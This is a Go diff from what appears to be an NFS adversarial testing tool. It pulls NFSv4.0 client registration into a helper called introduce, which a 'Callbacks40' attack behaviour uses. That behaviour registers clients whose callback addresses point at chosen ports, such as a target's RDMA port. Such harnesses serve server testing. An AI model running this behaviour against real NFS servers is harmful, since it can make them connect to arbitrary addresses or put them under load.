@@ -90,6 +90,28 @@ func universal(a netip.AddrPort) []byte {
 	return fmt.Appendf(nil, "%v.%d.%d", a.Addr(), a.Port()>>8, a.Port()&255)
 }
 
+// introduce makes a client of NFSv4.0 by this name, with an address for callbacks.
+func (c *client4) introduce(name []byte, called netip.AddrPort) error {
+	d, err := c.do(op4{wire.OpSetClientID, &wire.SetClientID4Args{
+		Client:   wire.NFSClientID4{ID: name, Verifier: c.verifier},
+		Callback: wire.CBClient4{CBProgram: 0x40000000, CBLocation: wire.NetAddr4{RNetid: []byte("tcp"), RAddr: universal(called)}},
+	}})
+	if err != nil {
+		return err
+	}
+	d.Skip(4)
+	var res wire.SetClientID4Res
+	res.Decode(d)
+	if d.Err() != nil {
+		return d.Err()
+	}
+	c.id = res.ResOK.Clientid
+	_, err = c.do(op4{wire.OpSetClientIDConfirm, &wire.SetClientIDConfirm4Args{
+		Clientid: res.ResOK.Clientid, SetclientidConfirm: res.ResOK.SetclientidConfirm,
+	}})
+	return err
+}
+
 // Start implements Behaviour.
 func (b Callbacks40) Start(ctx context.Context, target Target) *Attack {
 	return attack(ctx, b.Peers, func(ctx context.Context, i int, stands func()) error {
@@ -110,19 +132,7 @@ func (b Callbacks40) Start(ctx context.Context, target Target) *Attack {
 			case 3:
 				to = netip.AddrPortFrom(target.Source(i), target.RDMA.Port())
 			}
-			args := &wire.SetClientID4Args{
-				Client:   wire.NFSClientID4{ID: fmt.Appendf(nil, "called %d %d", i, n)},
-				Callback: wire.CBClient4{CBProgram: 0x40000000, CBLocation: wire.NetAddr4{RNetid: []byte("tcp"), RAddr: universal(to)}},
-			}
-			d, err := c.do(op4{wire.OpSetClientID, args})
-			if err != nil {
-				return err
-			}
-			d.Skip(4)
-			var res wire.SetClientID4Res
-			res.Decode(d)
-			confirm := &wire.SetClientIDConfirm4Args{Clientid: res.ResOK.Clientid, SetclientidConfirm: res.ResOK.SetclientidConfirm}
-			if _, err := c.do(op4{wire.OpSetClientIDConfirm, confirm}); err != nil {
+			if err := c.introduce(fmt.Appendf(nil, "called %d %d", i, n), to); err != nil {
 				return err
 			}
 		}
